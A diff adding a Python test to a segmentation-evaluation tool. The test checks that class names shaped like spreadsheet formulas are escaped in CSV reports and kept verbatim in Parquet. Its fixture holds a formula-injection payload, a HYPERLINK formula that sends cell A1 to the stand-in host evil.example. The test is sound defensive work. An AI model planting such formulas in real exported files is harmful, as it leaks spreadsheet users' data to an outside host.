@@ -138,3 +138,24 @@ def test_semantic_command_does_not_import_torch() -> None:
             "print(sorted(m for m in ('torch', 'torchvision', 'matplotlib') if m in sys.modules))")
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
     assert out.stdout.strip() == "[]"
+
+
+def test_formula_like_class_names_are_escaped_in_csv_only(dirs: tuple[Path, Path], tmp_path: Path) -> None:
+    """A class named like a spreadsheet formula is text in the CSV (leading apostrophe), verbatim in Parquet."""
+    import csv
+
+    gt_dir, pred_dir = dirs
+    out = tmp_path / "report"
+    evil = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
+    classes = tmp_path / "classes.txt"
+    classes.write_text(f"bg\n{evil}\n@dog\n", encoding="utf-8")
+    result = CliRunner().invoke(main, ["evaluate", "semantic", "--gt", str(gt_dir), "--pred", str(pred_dir),
+                                       "-o", str(out), "--classes", str(classes)])
+    assert result.exit_code == 0, result.output
+    cells = [cell for row in csv.reader((out / "per_class.csv").open(encoding="utf-8")) for cell in row]
+    assert "'" + evil in cells and "'@dog" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    names = pd.read_parquet(out / "per_class.parquet").iloc[:, 0].tolist()
+    assert evil in names and "@dog" in names
+    numbers = pd.read_csv(out / "summary.csv").set_index("metric")["value"]
+    assert numbers["mIoU"] == pytest.approx(pd.read_parquet(out / "summary.parquet").set_index("metric")["value"]["mIoU"])
